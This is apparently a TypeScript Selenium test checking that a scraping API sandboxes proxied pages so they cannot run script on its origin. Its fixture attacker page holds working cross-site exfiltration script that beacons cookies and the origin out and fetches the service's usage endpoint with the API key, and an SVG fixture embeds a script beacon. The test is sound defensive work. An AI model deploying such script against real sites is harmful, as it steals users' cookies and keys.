import { expect } from 'chai';
import type { WebDriver } from 'selenium-webdriver';
import { testDatabases } from '../helpers/databases.js';
import { useSuite } from '../helpers/suite.js';
import { testBrowser } from '../helpers/test-browser.js';

/**
 * The API answers with a target's bytes under the target's own type. A link to
 * `/v2/general?x-api-key=ATTACKER&url=https://evil/` opened by someone signed in to the service
 * must not run the attacker's page on the service's origin.
 */
describe("scraped content on the service's origin", function () {
  this.timeout(60_000);
  const s = useSuite(testDatabases()[0]);
  let driver: WebDriver | undefined;
  let key: string;

  before(async () => {
    key = await s.store.key();
    // The attacker's page: it tries to run, to read the service's origin and to report back.
    s.target.route('/evil', (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<p id="evil">evil page</p><script>
        document.body.setAttribute('data-ran', 'yes');
        new Image().src = '${s.target.url('/beacon')}?origin=' + encodeURIComponent(location.origin) + '&cookie=' + encodeURIComponent(document.cookie);
        fetch('/v2/usage?x-api-key=${key}').then((r) => r.text()).then((t) => fetch('${s.target.url('/beacon')}?usage=' + encodeURIComponent(t)));
      </script><img src="/v2/usage?x-api-key=${key}" onerror="document.body.setAttribute('data-img', 'loaded')">`);
    });
    s.target.route('/beacon', (_req, res) => void res.writeHead(204).end());
    s.target.route('/svg', (_req, res) => {
      res.writeHead(200, { 'content-type': 'image/svg+xml' });
      res.end(`<svg xmlns="http://www.w3.org/2000/svg"><script>new Image().src = '${s.target.url('/beacon')}?svg=1';</script></svg>`);
    });
    driver = await testBrowser();
  });
  after(async () => {
    await driver?.quit();
  });

  it('every answer carrying a target\'s bytes is sandboxed and never sniffed', async () => {
    const paths: Array<[string, Array<[string, string]>]> = [
      ['/v2/general', [['url', s.target.url('/evil')], ['browser', 'false']]],
      ['/v2/extended', [['url', s.target.url('/evil')], ['browser', 'false']]],
      ['/v1/general', [['url', s.target.url('/evil')], ['browser', 'false']]],
      ['/v2/general', [['url', 'not a url']]],
    ];
    for (const [path, query] of paths) {
      const res = await s.call(path, [['x-api-key', key], ...query]);
      await res.arrayBuffer();
      expect(res.headers.get('content-security-policy'), path).to.equal("sandbox; default-src 'none'; frame-ancestors 'none'");
      expect(res.headers.get('x-content-type-options'), path).to.equal('nosniff');
    }
  });

  for (const page of ['/evil', '/svg']) {
    it(`a scraped page (${page}) opened from a link runs nothing and reaches nothing, in a real browser`, async () => {
      const link = `${s.server.base}/v2/general?${new URLSearchParams([['x-api-key', key], ['url', s.target.url(page)], ['browser', 'false']])}`;
      await driver!.get(link);
      await new Promise((resolve) => setTimeout(resolve, 500));
      // The page is shown (its markup arrived), in an opaque origin, and none of its code ran.
      if (page === '/evil') {
        expect(await driver!.executeScript('return document.getElementById("evil") && document.getElementById("evil").textContent')).to.equal('evil page');
        expect(await driver!.executeScript('return document.body.getAttribute("data-ran")')).to.equal(null);
      }
      expect(await driver!.executeScript('return window.origin')).to.equal('null');
      expect(s.target.requestsTo('/beacon').map((r) => r.url), 'what the page reported').to.deep.equal([]);
      const usage = s.server.logs.filter((l) => String(l.path ?? '').startsWith('/v2/usage'));
      expect(usage, 'requests the page made to the service').to.deep.equal([]);
    });
  }
});
